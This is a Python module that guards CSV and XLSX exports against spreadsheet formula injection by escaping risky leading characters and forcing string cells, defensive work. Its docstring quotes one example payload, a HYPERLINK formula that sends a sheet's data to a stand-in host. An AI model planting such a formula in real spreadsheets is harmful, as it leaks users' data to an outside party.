"""The cells of every spreadsheet the pages hand out (CSV and XLSX): a text never becomes a formula.

Excel, LibreOffice and Google Sheets run a cell that starts with = + - or @ as a formula, and some treat a tab or
carriage return before one alike, so a proposal titled =HYPERLINK("http://x/?"&A1,"Klick") would become a live link
that sends the sheet's data away. As OWASP advises ("CSV Injection"), such a text gets a leading apostrophe: the
spreadsheet shows it as text and runs nothing. In an XLSX the text is also stored as a string cell, never as a
formula. Numbers stay numbers, negative ones too.

Every export writes its rows through `csv_file` or `xlsx_row`, so no text cell can bypass `text_cell`.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from datetime import date
from decimal import Decimal

from openpyxl.cell.cell import TYPE_STRING, Cell
from openpyxl.worksheet.worksheet import Worksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Control characters an XLSX cannot hold (openpyxl refuses them); older rows may still have some.
NOT_IN_XLSX = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")

CellValue = str | int | float | Decimal | date | None


def text_cell(text: str) -> str:
    """The text as a spreadsheet must receive it: with a leading apostrophe if it would start a formula."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def _csv_field(value: CellValue) -> str:
    if value is None:
        return ""
    if isinstance(value, str):
        return text_cell(value)
    if isinstance(value, Decimal):  # amounts and scores, as German Excel reads them: decimal comma
        return f"{value:.2f}".replace(".", ",")
    if isinstance(value, float):
        return str(value).replace(".", ",")
    return str(value)  # whole numbers and dates: nothing a spreadsheet could run


def csv_file(rows: Iterable[Sequence[CellValue]]) -> bytes:
    """A CSV for German Excel: UTF-8 with a byte-order mark (for the umlauts), ';' between fields (',' is the
    decimal mark), CRLF line ends; LibreOffice and Python's csv read it alike."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";", lineterminator="\r\n")
    for row in rows:
        writer.writerow([_csv_field(v) for v in row])
    return "\ufeff".encode() + out.getvalue().encode("utf-8")


def xlsx_row(sheet: Worksheet, values: Sequence[CellValue]) -> tuple[Cell, ...]:
    """Append a row to the sheet; returns its cells. Texts are string cells, whatever they start with."""
    texts = {i: NOT_IN_XLSX.sub("\ufffd", text_cell(v)) for i, v in enumerate(values) if isinstance(v, str)}
    sheet.append([texts.get(i, v) for i, v in enumerate(values)])
    cells: tuple[Cell, ...] = tuple(sheet[sheet.max_row])[:len(values)] if values else ()
    for i in texts:
        cells[i].data_type = TYPE_STRING  # openpyxl would take a text starting with '=' for a formula
    return cells
